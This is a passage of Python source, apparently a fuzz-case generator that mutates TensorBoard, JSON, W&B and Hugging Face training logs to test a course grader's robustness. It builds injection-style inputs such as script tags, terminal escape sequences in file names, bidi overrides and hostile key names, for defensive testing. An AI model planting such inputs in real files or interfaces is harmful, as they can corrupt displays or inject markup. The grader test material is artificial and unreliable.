                out.append((t, s, TAGS[key], v))
            t += 0.001
    for e, tl, ta in zip(c.epoch, c.test_loss, c.test_accuracy, strict=False):
        for key, v in (("test_loss", tl), ("test_accuracy", ta)):
            if v is not None:
                out.append((t, e, TAGS[key], v))
            t += 0.001
    return out


def _i64(step: int) -> int:
    return max(min(step, 2**63 - 1), -(2**63))


def tb_files(rng: random.Random, c: Curves, mutate: bool = True) -> tuple[dict[str, bytes], list[str]]:
    """A log folder's files (relative path → bytes): the course's event file, mutated at the file level."""
    evs = tb_events(c)
    ops: list[str] = []
    kind = "simple"
    if mutate:
        for _ in range(rng.choice([0, 1, 1, 2])):
            how = rng.choice(
                [
                    "rename",
                    "rename_all",
                    "hostile_tag",
                    "wall_order",
                    "wall_same",
                    "wall_nan",
                    "tensor",
                    "extra_tags",
                    "text",
                    "session",
                    "drop_tag",
                ]
            )
            tags = sorted({e[2] for e in evs})
            if how == "rename" and tags:
                old, new = rng.choice(tags), rng.choice(HOSTILE_TAGS)
                evs = [(w, s, new if t == old else t, v) for w, s, t, v in evs]
                how += f" {old!r} → {new!r}"
            elif how == "rename_all":
                new = {t: rng.choice(HOSTILE_TAGS) for t in tags}
                evs = [(w, s, new[t], v) for w, s, t, v in evs]
            elif how == "hostile_tag":
                evs += [(2e9, 0, rng.choice(HOSTILE_TAGS), 1.0) for _ in range(rng.randint(1, 20))]
            elif how == "wall_order":
                walls = [e[0] for e in evs]
                rng.shuffle(walls)
                evs = [(w, *e[1:]) for w, e in zip(walls, evs, strict=True)]
            elif how == "wall_same":
                evs = [(1.7e9, *e[1:]) for e in evs]
            elif how == "wall_nan":
                evs = [(rng.choice([math.nan, math.inf, -1.0, e[0]]), *e[1:]) for e in evs]
            elif how == "tensor":
                kind = "tensor"
            elif how == "extra_tags":
                evs += [(2e9 + i, i, f"extra/{i}", float(i)) for i in range(rng.choice([10, 300]))]
            elif how == "drop_tag" and tags:
                gone = rng.choice(tags)
                evs = [e for e in evs if e[2] != gone]
                how += f" {gone}"
            ops.append(how)
    body = [record(event(1.7e9, version="brain.Event:2"))]
    for w, s, t, v in evs:
        body.append(record(event(w, _i64(s), t, v, kind=kind)))
    if "text" in ops:
        body.insert(rng.randrange(1, len(body) + 1), record(event(1.7e9, 0, rng.choice(HOSTILE_TEXT), kind="text")))
    if "session" in ops:
        body.insert(rng.randrange(1, len(body) + 1), record(event(1.7e9, rng.randrange(0, 100), kind="session_start")))
    name = "events.out.tfevents.1700000000.host.1234.0"
    files = {name: b"".join(body)}
    if mutate and rng.random() < 0.4:
        files, what = _tb_layout(rng, files, body, name)
        ops.append(what)
    return files, ops


def _tb_layout(rng: random.Random, files: dict[str, bytes], body: list[bytes], name: str):
    how = rng.choice(
        [
            "split",
            "resumed",
            "subfolder",
            "two_subfolders",
            "truncate",
            "flip",
            "garbage",
            "not_events",
            "empty",
            "too_many",
            "extra_files",
            "v1",
            "no_version",
            "big",
            "dir_named_events",
            "tiny_cut",
        ]
    )
    data = files[name]
    if how == "split" and len(body) > 2:
        k = rng.randrange(2, len(body))
        return {name: b"".join(body[:k]), name[:-1] + "1": body[0] + b"".join(body[k:])}, f"split into 2 files at {k}"
    if how == "resumed" and len(body) > 1:  # a second file repeating part of the first (resumed from a checkpoint)
        k = rng.randrange(1, len(body))
        return {name: data, "events.out.tfevents.1700000500.host.1234.0": body[0] + b"".join(body[k:])}, "resumed"
    if how == "subfolder":
        return {f"Jan01_00-00-00_host/{name}": data}, "in one sub-folder (SummaryWriter's runs/<date>)"
    if how == "two_subfolders":
        return {f"a/{name}": data, f"\x1b[2Jb/{name}": data}, "two sub-folders"
    if how == "truncate":
        return {name: data[: rng.randrange(len(data))]}, "truncated"
    if how == "tiny_cut":
        return {name: data[: rng.randrange(1, 40)]}, "cut to a few bytes"
    if how == "flip":
        b, what = _bytes(rng, data)
        return {name: b}, what
    if how == "garbage":
        return {name: data + rng.randbytes(rng.randrange(1, 200))}, "garbage appended"
    if how == "not_events":
        return {
            name: rng.choice([b"step,lr\n0,0.1\n", b"\x00" * 100, rng.randbytes(300), b"<script>x</script>"])
        }, "not an event file, named like one"
    if how == "empty":
        return {name: b""}, "empty event file"
    if how == "too_many":
        return {name: data, **{f"notes{i}.txt": b"x" for i in range(17)}}, "17 other files"
    if how == "extra_files":
        return {
            name: data,
            "README.md": b"# my run\n",
            "hparams.yaml": b"lr: 0.1\n",
            "\x1b]0;x\x07.txt": b"",
        }, "other files beside it"
    if how == "v1":
        return {name: record(event(1.7e9, version="brain.Event:1")) + b"".join(body[1:])}, "file_version brain.Event:1"
    if how == "no_version":
        return {name: b"".join(body[1:])}, "no file_version record"
    if how == "big":
        return {name: data, "events.out.tfevents.big": None}, "a 9 MiB sparse event file beside it"
    if how == "dir_named_events":
        return {name: data, "events.out.tfevents.dir/x": b""}, "a folder named like an event file"
    return files, how


# ---------------------------------------------------------------- level 2c: JSON logs

LOG_FORMATS = ("csv", "tb", "json", "wandb", "hf", "tbparse")  # the last three: FORMS, logs as tools export them
JSON_SHARE = 0.3  # of the generated cases, where --formats holds json (drawn first: without json, the old sequence)
# the CSV layout's columns under the keys a JSON log may use (grader/logs.py ALIASES); a column left out: not written
JSON_NAMES = {
    "course": dict(zip(COLUMNS, COLUMNS, strict=True)),
    "common": {
        "step": "global_step",
        "lr": "learning_rate",
        "train_loss": "loss",
        "epoch": "epoch",
        "test_loss": "val_loss",
        "test_accuracy": "val_acc",
    },
    "keras": {
        "lr": "learning_rate",
        "train_loss": "loss",
        "epoch": "epoch",
        "test_loss": "val_loss",
        "test_accuracy": "val_accuracy",
    },
    "tensorboard tags": {"step": "step", **TAGS, "epoch": "epoch"},
    "lr_finder": {"lr": "lr", "train_loss": "loss"},  # pytorch-lr-finder's history: no step, the position is one
}


def _json_number(cell: str):
    """A CSV cell of csv_text as the JSON value a framework's history holds (None: not logged)."""
    if cell == "":
        return None
    if re.fullmatch(r"-?\d+", cell):
        return int(cell)
    try:
        return float(cell)
    except ValueError:
        return cell


def json_rows(c: Curves, names: dict[str, str]) -> tuple[list[str], list[list]]:
    """The CSV layout's rows (csv_text) as JSON values under `names`; a row with nothing under them left out."""
    rows = _rows(csv_text(c))
    keep = [j for j, k in enumerate(COLUMNS) if k in names]
    out = [[_json_number(r[j]) if j < len(r) else None for j in keep] for r in rows[1:]]
    return [names[COLUMNS[j]] for j in keep], [r for r in out if any(v is not None for v in r)]


def json_object(header: list[str], rows: list[list], layout: str):
    """columns: an object of equal-length lists (json.dump(history), DataFrame.to_dict("list")); records: a list of
    objects (to_json(orient="records"), null where not logged); sparse records: a key left out where not logged."""
    if layout == "columns":
        return {h: [r[j] for r in rows] for j, h in enumerate(header)}
    omit = layout == "sparse records"
    return [{h: v for h, v in zip(header, r, strict=True) if not (omit and v is None)} for r in rows]


def json_log(rng: random.Random, c: Curves) -> tuple[bytes, list[str]]:
    """A JSON log of the curves in one of the layouts read, under one of the names read, then mutated: its object
    (cells, keys, shape), its text (literals, duplicate keys, nesting, not quite JSON) and its bytes."""
    names = rng.choice(["course", "course", "course", "common", "keras", "tensorboard tags", "lr_finder"])
    layout = rng.choice(["columns", "columns", "records", "sparse records"])
    header, rows = json_rows(c, JSON_NAMES[names])
    obj, ops = json_object(header, rows, layout), [f"JSON {layout}, {names} names"]
    for _ in range(rng.choice([0, 0, 1, 1, 2])):
        obj, what = rng.choice(JSON_OBJ_OPS)(rng, obj)
        ops.append(what)
    indent = rng.choice([None, None, None, 2, 4])
    try:
        text = json.dumps(obj, indent=indent)  # NaN, Infinity: json.dump's own literals
    except ValueError:  # a circular reference cannot happen; kept for the generator's sake
        text = "{}"
    for _ in range(rng.choice([0, 0, 0, 0, 1, 1, 2])):  # most: JSON that parses, its contents judged
        text, what = rng.choice(JSON_TEXT_OPS)(rng, text)
        ops.append(what)
    data = text.encode("utf-8", "surrogatepass")
    if rng.random() < 0.15:
        data, what = _json_bytes(rng, data)
        ops.append(what)
    return data[: 9 * 2**20], ops


def _cells_of(obj) -> list[tuple]:
    """(container, key) of each cell of a columns or records layout."""
    if isinstance(obj, dict):
        return [(v, i) for v in obj.values() if isinstance(v, list) for i in range(len(v))]
    if isinstance(obj, list):
        return [(r, k) for r in obj if isinstance(r, dict) for k in r]
    return []


JSON_VALUES = [
    math.nan,
    math.inf,
    -math.inf,
    1e308,
    -1e308,
    -0.0,
    5e-324,
    0,
    -1,
    10**20,
    2**63,
    "0.05",
    "nan",
    "Infinity",
    "1e-3",
    "",
    " 2.3 ",
    "95.3%",
    "A" * 50,
    True,
    False,
    None,
    [],
    {},
    [0.1],
    {"value": 0.1},
    *HOSTILE_TEXT[:-1],  # all but the last ("−1"): each a string where a number belongs
]


def _j_cells(rng, obj):
    cells = _cells_of(obj)
    if not cells:
        return obj, "JSON cells (none)"
    k = rng.choice([1, 1, 3, 20])
    put = []
    for _ in range(k):
        box, key = rng.choice(cells)
        box[key] = v = copy.deepcopy(rng.choice(JSON_VALUES))
        put.append(repr(v)[:20])
    return obj, f"JSON cells set to {', '.join(put[:4])}"


def _j_keys(rng, obj):
    """Keys renamed to hostile text (HTML, Markdown, formulas, terminal escapes, bidi), or such a column added."""
    how = rng.choice(["rename", "rename_all", "extra", "extra", "case"])
    records = isinstance(obj, list)
    rows = [r for r in obj if isinstance(r, dict)] if records else [obj] if isinstance(obj, dict) else []
    keys = list(dict.fromkeys(k for r in rows for k in r))
    if not keys:
        return obj, "JSON keys (none)"
    if how in ("rename", "rename_all", "case"):
        if how == "case":
            new = {k: k.upper() if rng.random() < 0.5 else k.title() for k in keys}
        elif how == "rename":
            new = {rng.choice(keys): rng.choice(HOSTILE_TEXT + HOSTILE_TAGS)}
        else:
            new = {k: rng.choice(HOSTILE_TEXT + HOSTILE_TAGS) for k in keys}
        for r in rows:
            items = [(new.get(k, k), v) for k, v in r.items()]
            r.clear()
            r.update(items)
        return obj, f"JSON keys: {how} {list(new.values())[:2]!r}"[:90]
    name = rng.choice(HOSTILE_TEXT)
    n = len(obj[keys[0]]) if not records and isinstance(obj[keys[0]], list) else 0
    vals = [rng.choice([0.1, rng.choice(HOSTILE_TEXT), None]) for _ in range(n)]
    for r in rows:
        r[name] = vals if not records else rng.choice([0.1, rng.choice(HOSTILE_TEXT), None])
    return obj, f"JSON extra column {name[:30]!r}"


def _j_shape(rng, obj):
    """Another JSON than the two layouts read, or the layouts at and over the caps."""
    how = rng.choice(
        [
            "unequal",
            "unequal",
            "scalars",
            "list_of_lists",
            "split",
            "index_keys",
            "index_orient",
            "wrapped",
            "grouped",
            "empty",
            "scalar",
            "mixed_list",
            "many_columns",
            "near_cap",
            "over_cap",
            "cap_one_column",
            "near_cap_records",
            "over_cap_records",
            "empty_lists",
            "two_histories",
        ]
    )
    cols = obj if isinstance(obj, dict) else {}
    if isinstance(obj, list):  # the columns of a records log
        keys = list(dict.fromkeys(k for r in obj if isinstance(r, dict) for k in r))
        cols = {k: [r.get(k) if isinstance(r, dict) else None for r in obj] for k in keys}
    cols = {k: v for k, v in cols.items() if isinstance(v, list)}  # after another shape: its lists only
    n = max((len(v) for v in cols.values()), default=0)
    if how == "unequal" and cols:
        k = rng.choice(list(cols))
        cols[k] = cols[k][: rng.randrange(max(n, 1))] if rng.random() < 0.7 else [*cols[k], 0.1]
        return cols, f"JSON lists of unequal length ({k[:20]!r})"
    if how == "scalars":
        return {k: (v[-1] if isinstance(v, list) and v else v) for k, v in cols.items()}, "JSON object of scalars"
    if how == "list_of_lists":  # to_json(orient="values")
        return [list(r) for r in zip(*cols.values(), strict=False)], "JSON list of lists (orient=values)"
    if how == "split":
        return {"columns": list(cols), "index": list(range(n)),
                "data": [list(r) for r in zip(*cols.values(), strict=False)]}, "JSON orient=split"  # fmt: skip
    if how == "index_keys":  # DataFrame.to_json()'s default, orient="columns"
        return {k: {str(i): x for i, x in enumerate(v)} for k, v in cols.items()}, "JSON orient=columns (index keys)"
    if how == "index_orient":
        return {str(i): {k: v[i] for k, v in cols.items() if i < len(v)} for i in range(n)}, "JSON orient=index"
    if how == "wrapped":
        return {rng.choice(["history", "log", "metrics"]): obj}, "JSON log wrapped in an object"
    if how == "grouped":
        return {"train": {"loss": cols.get("train_loss") or cols.get("loss") or []}, "lr": cols.get("lr", [])}, (
            "JSON nested objects (train: {loss: …})"
        )
    if how == "empty":
        return rng.choice([{}, []]), "JSON empty object or list"
    if how == "scalar":
        v = rng.choice([None, 3.5, "lr", True, 0])
        return v, f"JSON a top-level {v!r}"
    if how == "mixed_list":
        return [*(obj[:3] if isinstance(obj, list) else [cols]), 1, "x", None], "JSON list of records and scalars"
    if how == "many_columns":
        return {**cols, **{f"c{i}": [0.0] * n for i in range(300)}}, "JSON 300 more columns"
    if how == "near_cap":  # 2 × 100,000 values: at MAX_EVENTS
        return {"lr": [1e-3 * (1 + i % 7) for i in range(100_000)], "loss": [2.3] * 100_000}, "JSON 200,000 values"
    if how == "over_cap":
        return {"lr": [1e-3] * 100_001, "loss": [2.3] * 100_001}, "JSON 200,002 values"
    if how == "cap_one_column":
        return {"loss": [2.3 - i * 1e-6 for i in range(200_000)]}, "JSON one column of 200,000 values"
    if how == "near_cap_records":
        return [{"step": i, "lr": 0.05, "loss": 2.3} for i in range(66_666)], "JSON 66,666 records of 3"
    if how == "over_cap_records":
        return [{"lr": 0.05} for _ in range(200_001)], "JSON 200,001 records"
    if how == "empty_lists":
        return {k: [] for k in cols} or {"lr": []}, "JSON empty lists"
    if how == "two_histories":  # a plain loop's history: per-step lists beside per-epoch ones, as logged
        return {k: [x for x in v if x is not None] for k, v in cols.items()}, "JSON lists without their nulls"
    return obj, f"JSON shape {how} (n/a)"


JSON_OBJ_OPS = [_j_cells, _j_cells, _j_keys, _j_keys, _j_shape, _j_shape, _j_shape]
_JSON_NUMBER = re.compile(r"(?<![\w.\"])-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?(?![\w.\"])")
JSON_LITERALS = ["NaN", "Infinity", "-Infinity", "1e309", "-1e309", "1e308", "-0.0", "-0", "9" * 5000, "0x10",
                 "01", "1.", ".5", "+1", "nan", "inf", "true", "null", '"1e-3"', "1_000", "1e-400", "١"]  # fmt: skip


def _j_literal(rng, text):
    spots = list(_JSON_NUMBER.finditer(text[:200_000]))
    if not spots:
        return text, "JSON literal (no number)"
    hit = []
    for _ in range(rng.choice([1, 1, 5])):
        m = rng.choice(spots)
        lit = rng.choice(JSON_LITERALS)
        if m.end() <= len(text) and _JSON_NUMBER.fullmatch(text[m.start() : m.end()]):
            text = text[: m.start()] + lit + text[m.end() :]
            hit.append(lit[:12])
        spots = list(_JSON_NUMBER.finditer(text[:200_000]))
        if not spots:
            break
    return text, f"JSON number literals {', '.join(hit)}"


def _j_duplicate_key(rng, text):
    """A key twice in one object (json.loads keeps the last)."""
    m = re.search(r'\{\s*("(?:[^"\\]|\\.)*")\s*:', text)
    if not m:
        return text, "JSON duplicate key (no key)"
    key, value = m.group(1), rng.choice(["[1, 2, 3]", '["x"]', "0.5", "null", "[]", "{}"])
    if rng.random() < 0.5:  # the first one wins nothing: the later, original one is kept
        return text[: m.start() + 1] + f"{key}: {value}, " + text[m.start() + 1 :], f"JSON key {key[:20]} twice (first)"
    end = text.find("}", m.end())  # the same object, again at its end
    end = end if end > 0 else len(text)
    return text[:end] + f", {key}: {value}" + text[end:], f"JSON key {key[:20]} twice (last)"


def _j_text(rng, text):
    how = rng.choice(["deep", "deep_cell", "trailing", "comment", "jsonl", "single_quotes", "cut", "python", "ws"])
    if how == "deep":
        d = rng.choice([50, 1000, 100_000])
        return "[" * d + text + "]" * d, f"JSON nested {d} deep"
    if how == "deep_cell":
        d = rng.choice([3, 1000, 100_000])
        return re.sub(r"\[", "[" + "[" * d + "0.1" + "]" * d + ", ", text, count=1), f"JSON a cell nested {d} deep"
    if how == "trailing":
        extra = rng.choice([",", "\n{}", " // end", "\x00", "garbage", "\n" + text])
        return text + extra, f"JSON followed by {extra[:10]!r}"
    if how == "comment":
        return "// written by train.py\n" + text, "JSON with a // comment first"
    if how == "jsonl":  # JSON Lines: one record a line, no brackets
        try:
            rows = json.loads(text)
        except (ValueError, RecursionError):  # another op's text: no longer JSON, or nested past the parser
            return text, "JSON Lines (n/a)"
        if isinstance(rows, list):
            return "".join(json.dumps(r) + "\n" for r in rows), "JSON Lines (one record a line)"
        return text, "JSON Lines (n/a)"
    if how == "single_quotes":
        return text.replace('"', "'"), "JSON with single quotes (a dict's repr)"
    if how == "python":
        return text.replace("NaN", "nan").replace("null", "None").replace("true", "True"), "Python literals"
    if how == "cut":
        return text[: rng.randrange(len(text) + 1)], "JSON cut mid-file"
    return text.replace(",", " ,\n\t"), "JSON odd whitespace"


JSON_TEXT_OPS = [_j_literal, _j_literal, _j_duplicate_key, _j_text, _j_text]


def _json_bytes(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    how = rng.choice(["bom", "utf16", "utf16be", "invalid_utf8", "latin1", "truncate", "flip", "nul", "utf8_key"])
    if how == "bom":
        return b"\xef\xbb\xbf" + data, "JSON with a UTF-8 BOM"
    if how in ("utf16", "utf16be"):
        text = data.decode("utf-8", "surrogatepass")
        return text.encode("utf-16" if how == "utf16" else "utf-16-be", "surrogatepass"), f"JSON in {how}"
    if how == "invalid_utf8":
        i = data.find(b'"', rng.randrange(len(data) + 1))
        i = i + 1 if i >= 0 else rng.randrange(len(data) + 1)
        return data[:i] + rng.choice([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\xc0\xaf"]) + data[i:], "invalid UTF-8"
    if how == "latin1":
        return data.replace(b'"lr"', b'"l\xe9r"', 1).replace(b'"step"', b'"st\xe9p"', 1), "a latin-1 byte in a key"
    if how == "utf8_key":
        return data.replace(b'"lr"', '"lr\u202e"'.encode(), 1), "a bidi override in a key"
    if how == "truncate":
        return data[: rng.randrange(len(data) + 1)], "JSON truncated"
    if how == "nul":
        return rng.choice([b"\x00" * 8 + data, data + b"\x00", data.replace(b",", b",\x00", 3)]), "NUL bytes"
    return _bytes(rng, data)


# ---------------------------------------------------------------- level 2d: logs as tools export them

# the forms docs/submission.md ("logs exported by other tools") reads: W&B's run.history() (CSV or JSON, `_step`
# counting wandb.log calls) and its chart export, Hugging Face Trainer's log_history (JSON, trainer_state.json, its
# DataFrame as CSV), tbparse's pivoted CSV of the course's tags
FORMS = ("wandb", "hf", "tbparse")
FORMS_SHARE = 0.3  # of the generated cases, where --formats holds a form (drawn first: without one, the old sequence)
# a history's keys as a wandb.log call names them (grader/logs.py ALIASES: namespaces aside); a key left out: not logged
WANDB_NAMES = {
    "namespaced": {
        "lr": "lr",
        "train_loss": "train/loss",
        "epoch": "epoch",
        "test_loss": "test/loss",
        "test_accuracy": "test/accuracy",
    },
    "train/ and eval/": {
        "lr": "train/lr",
        "train_loss": "train/loss",
        "epoch": "epoch",
        "test_loss": "eval/loss",
        "test_accuracy": "eval/accuracy",
    },
    "flat": {
        "lr": "learning_rate",
        "train_loss": "train_loss",
        "epoch": "epoch",
        "test_loss": "val_loss",
        "test_accuracy": "val_acc",
    },
    "eval_": {
        "lr": "learning_rate",
        "train_loss": "loss",
        "epoch": "epoch",
        "test_loss": "eval_loss",
        "test_accuracy": "eval_accuracy",
    },
}
TBPARSE_TAGS = ("Accuracy/test", "LR/train", "Loss/test", "Loss/train")  # tbparse's pivot: the tags' columns, sorted
FORM_NAMES = {
    "wandb": ["logs/history.csv"] * 4 + ["wandb_history.csv", "logs/history", "history.CSV"],
    "wandb json": ["logs/history.json"] * 3 + ["history.json", "logs/history.txt"],
    "chart": ["logs/chart.csv", "wandb_export_2026-12-06.csv"],
    "hf json": ["logs/log_history.json", "log_history.json", "logs/log_history"],
    "hf state": ["trainer_state.json"] * 3 + ["checkpoint-96/trainer_state.json", "logs/trainer_state.JSON"],
    "hf csv": ["logs/log_history.csv", "log_history.csv"],
    "tbparse": ["logs/scalars.csv"] * 3 + ["scalars.csv", "logs/tbparse"],
}


def _cell_value(cell: str):
    """A CSV layout cell (csv_text) as the value a tool's record holds: a number, the text itself, None: not logged."""
    return _json_number(cell)


def _layout_rows(c: Curves) -> list[dict[str, str]]:
    """csv_text's rows as {column: cell} (the empty cells left out): a row per step, the test metrics on the row of
    the step that ends their epoch, rows of test metrics alone where no step ends them."""
    rows = _rows(csv_text(c))
    return [{k: v for k, v in zip(COLUMNS, r, strict=False) if v != ""} for r in rows[1:]]


def _draw(value, draw):
    """`value` where a caller fixed it (the honest forms), else `draw()`."""
    return draw() if value is None else value


def wandb_records(rng: random.Random, c: Curves, separate: bool | None = None, calls: bool | None = None,
                  extra: bool | None = None, sample: bool | None = None,
                  names: str | None = None) -> tuple[list[dict], str]:  # fmt: skip
    """`run.history()` of a run that called wandb.log every step: `_step` the call's number (W&B's) or the step as
    logged (`wandb.log(..., step=step)`), the evaluation in the step's own call or in one after it, rows sampled or
    not, an extra call (a histogram) now and then; under one of WANDB_NAMES."""
    names = WANDB_NAMES[_draw(names, lambda: rng.choice(sorted(WANDB_NAMES)))]
    separate, calls = _draw(separate, lambda: rng.random() < 0.6), _draw(calls, lambda: rng.random() < 0.75)
    extra = _draw(extra, lambda: rng.random() < 0.1)
    out, k = [], 0
    for row in _layout_rows(c):
        train = {names[x]: _cell_value(row[x]) for x in ("lr", "train_loss") if x in row}
        tests = {names[x]: _cell_value(row[x]) for x in ("epoch", "test_loss", "test_accuracy") if x in row}
        step = _cell_value(row["step"]) if "step" in row else k
        if train:
            out.append({"_step": k if calls else step, "_runtime": round(1.2 + 0.05 * k, 3), **train})
            k += 1
            if extra and k % 17 == 0:
                out.append({"_step": k if calls else step, "_runtime": round(1.2 + 0.05 * k, 3)})
                k += 1
        if tests:
            if separate or not train:
                out.append({"_step": k if calls else step, "_runtime": round(1.2 + 0.05 * k, 3)})
                k += 1
            out[-1].update(tests)
    how = (f"W&B history, _step {'counting calls' if calls else 'as logged'}, the evaluation in "
           f"{'its own' if separate else 'the step'}'s call")  # fmt: skip
    if _draw(sample, lambda: rng.random() < 0.2) and len(out) > 10:  # run.history() samples 500 rows
        keep = sorted(rng.sample(range(len(out)), rng.randint(len(out) // 2, len(out) - 1)))
        out = [out[i] for i in keep]
        how += ", rows sampled"
    return out, how + (", an extra call" if extra else "")


def hf_records(rng: random.Random, c: Curves, ahead: bool | None = None,
               summary: bool | None = None) -> tuple[list[dict], str]:  # fmt: skip
    """`trainer.state.log_history`: training records of `step` (the optimizer steps done, from 1), `loss`,
    `learning_rate`, a fractional `epoch`; an evaluation record each epoch (`eval_loss`, `eval_accuracy` at a whole
    epoch); a closing summary; its LR the step's or (older transformers) the next step's."""
    rows = _layout_rows(c)
    per = max(1, len(c.step) // max(len(c.epoch), 1))
    ahead = _draw(ahead, lambda: rng.random() < 0.3)
    lrs = [r.get("lr") for r in rows if "lr" in r or "train_loss" in r]
    if ahead and lrs:
        lrs = [*lrs[1:], lrs[-1]]
    out, i, last = [], 0, 0
    for row in rows:
        if "lr" in row or "train_loss" in row:
            step = _cell_value(row["step"]) if "step" in row else i
            step = step + 1 if isinstance(step, int) else step
            rec = {
                "loss": _cell_value(row.get("train_loss", "")),
                "grad_norm": 1.0,
                "learning_rate": _cell_value(lrs[i] or ""),
                "epoch": round((i + 1) / per, 4),
                "step": step,
            }
            out.append({k: v for k, v in rec.items() if v is not None})
            i, last = i + 1, step
        if "epoch" in row or "test_loss" in row or "test_accuracy" in row:
            epoch = _cell_value(row.get("epoch", ""))
            rec = {
                "eval_loss": _cell_value(row.get("test_loss", "")),
                "eval_accuracy": _cell_value(row.get("test_accuracy", "")),
                "eval_runtime": 0.5,
                "epoch": float(epoch) if isinstance(epoch, int) and abs(epoch) < 2**53 else epoch,
                "step": last,
            }
            out.append({k: v for k, v in rec.items() if v is not None})
    if _draw(summary, lambda: rng.random() < 0.85):
        out.append({"train_runtime": 20.1, "train_samples_per_second": 600.0, "train_loss": 0.7, "total_flos": 0.0,
                    "epoch": float(len(c.epoch)), "step": last})  # fmt: skip
    return out, f"HF log_history{', LR one step ahead (older transformers)' if ahead else ''}"


def tbparse_rows(rng: random.Random, c: Curves,
                 at_step: bool | None = None) -> tuple[list[str], list[list[str]], str]:  # fmt: skip
    """`SummaryReader(logdir, pivot=True).scalars.to_csv()`: pandas' index, `step`, the tags' columns sorted; the
    test metrics at the epoch's number (as the course's framework logs them) or at the step that ends the epoch."""
    cell = lambda v: "" if v is None else repr(v) if isinstance(v, float) else str(v)  # noqa: E731
    at_step = _draw(at_step, lambda: rng.random() < 0.3)
    by: dict = {}
    for s, lr, loss in zip(c.step, c.lr, c.train_loss, strict=False):
        by.setdefault(s, {}).update({"LR/train": lr, "Loss/train": loss})
    per = max(1, _n(c) // max(len(c.epoch), 1))
    for e, tl, ta in zip(c.epoch, c.test_loss, c.test_accuracy, strict=False):
        x = e * per if at_step and isinstance(e, int) else e
        by.setdefault(x, {}).update({"Loss/test": tl, "Accuracy/test": ta})
    tags = list(TBPARSE_TAGS)
    keys = sorted(by, key=lambda s: (not isinstance(s, int), s if isinstance(s, int) else 0))
    rows = [[str(j), cell(s), *(cell(by[s].get(t)) for t in tags)] for j, s in enumerate(keys)]
    return ["", "step", *tags], rows, f"tbparse pivot, test metrics at {'epochs-end steps' if at_step else 'epochs'}"


def _records_csv(records: list[dict], index: bool = True) -> str:
    """pd.DataFrame(records).to_csv(): its index, the keys in first-seen order, a missing value empty."""
    cols = list(dict.fromkeys(k for r in records for k in r))
    cell = lambda v: "" if v is None else repr(v) if isinstance(v, float) else str(v)  # noqa: E731
    return _join(
        [[""] * index + cols, *[[str(j)] * index + [cell(r.get(k)) for k in cols] for j, r in enumerate(records)]]
    )


def _r_keys(rng, records, counter):
    """A record-level change to the keys a tool wrote: hostile, renamed, many, long, a run column."""
    how = rng.choice(["hostile key", "rename", "many keys", "long key", "run column", "drop key", "counter renamed"])
    keys = sorted({k for r in records for k in r})
    if how == "hostile key":
        key = rng.choice(HOSTILE_TEXT + HOSTILE_TAGS)
        for r in records:
            r[key] = rng.choice([1.0, 0.5, None, rng.choice(HOSTILE_TEXT)])
        return f"a key {key[:40]!r}"
    if how == "rename" and keys:
        old, new = rng.choice(keys), rng.choice(HOSTILE_TAGS + ["loss", "train/loss", "eval/accuracy", "Step"])
        for r in records:
            if old in r:
                r[new] = r.pop(old)
        return f"key {old!r} renamed {new[:40]!r}"
    if how == "many keys":
        n = rng.choice([20, 255, 300])
        for r in records[:3]:
            r.update({f"k{j}<i>": 1.0 for j in range(n)})
        return f"{n} more keys"
    if how == "long key":
        key = rng.choice(["A", "<b>", "\x1b[2J"]) * rng.choice([2000, 10000])
        records[0][key] = 1.0
        return "a key 10 kB long"
    if how == "run column":
        names = rng.choice([["run-1"], ["a", "b"], HOSTILE_TEXT[:6], ["sgd-constant", "other"]])
        for j, r in enumerate(records):
            r["name"] = names[j % len(names)]
        return f"a run column naming {len(names)} run(s)"
    if how == "drop key" and keys:
        key = rng.choice(keys)
        for r in records:
            r.pop(key, None)
        return f"key {key!r} left out"
    if how == "counter renamed":
        new = rng.choice(["step", "Step", "global_step", "_STEP", "_step ", "iteration", "trainer/global_step"])
        for r in records:
            if counter in r:
                r[new] = r.pop(counter)
        return f"{counter} renamed {new!r}"
    return f"keys: {how} (none)"


def _r_values(rng, records, counter):
    """A record-level change to values: the counter's (huge, negative, back, repeated, fractional, text), a hostile
    cell, a summary or evaluation record repeated or misplaced."""
    how = rng.choice(["counter", "counter", "cell", "cell", "summary twice", "records reversed", "empty records",
                      "nested", "epochs fractional"])  # fmt: skip
    if not records:
        return "values (no records)"
    if how == "counter":
        what = rng.choice(["huge", "negative", "back", "same", "float", "1e3", "text", "bool", "int64", "one huge"])
        for j, r in enumerate(records):
            if counter not in r and what != "one huge":
                continue
            s = r.get(counter, 0)
            s = s if isinstance(s, int) else j
            r[counter] = {"huge": s + 10**12, "negative": -s - 1, "back": len(records) - j, "same": 7,
                          "float": s + 0.5, "1e3": float(s) * 1e3, "text": rng.choice(HOSTILE_TEXT),
                          "bool": bool(j % 2), "int64": 2**63 - 1 - j,
                          "one huge": 10**30 if j == len(records) // 2 else r.get(counter, j)}[what]  # fmt: skip
        return f"{counter}: {what}"
    if how == "cell":
        r = rng.choice(records)
        key = rng.choice(sorted(r)) if r else counter
        r[key] = rng.choice([*HOSTILE_NUMBERS, *HOSTILE_TEXT, math.nan, math.inf, -math.inf, 1e308, -1e308, 10**30])
        return f"cell {key!r} = {str(r[key])[:40]!r}"
    if how == "summary twice":
        records += [dict(r) for r in records if "train_runtime" in r or "eval_loss" in r][:3]
        return "summary/evaluation records repeated at the end"
    if how == "records reversed":
        records.reverse()
        return "records reversed"
    if how == "empty records":
        records[rng.randrange(len(records))] = {}
        records.insert(rng.randrange(len(records) + 1), {})
        return "empty records"
    if how == "nested":
        r = rng.choice(records)
        key = rng.choice(sorted(r)) if r else "loss"
        r[key] = rng.choice([[1.0], {"value": 1.0}, [[[[[1.0]]]]], {"_type": "histogram", "values": [1, 2]}])
        return f"cell {key!r} nested"
    for r in records:
        if isinstance(r.get("epoch"), (int, float)) and not isinstance(r.get("epoch"), bool):
            r["epoch"] = r["epoch"] + 0.5
    return "every epoch fractional"


def _records_mutated(rng: random.Random, records: list[dict], counter: str) -> list[str]:
    ops = []
    for _ in range(rng.choice([0, 0, 1, 1, 2])):
        ops.append(rng.choice([_r_keys, _r_values, _r_values])(rng, records, counter))
    return ops


def _json_text(rng: random.Random, obj) -> tuple[bytes, list[str]]:
    """JSON of a tool's records (json.dump's NaN/Infinity literals), its text and bytes mutated now and then."""
    ops = []
    try:
        text = json.dumps(obj, indent=rng.choice([None, None, 2]))
    except (ValueError, RecursionError):
        text = "{}"
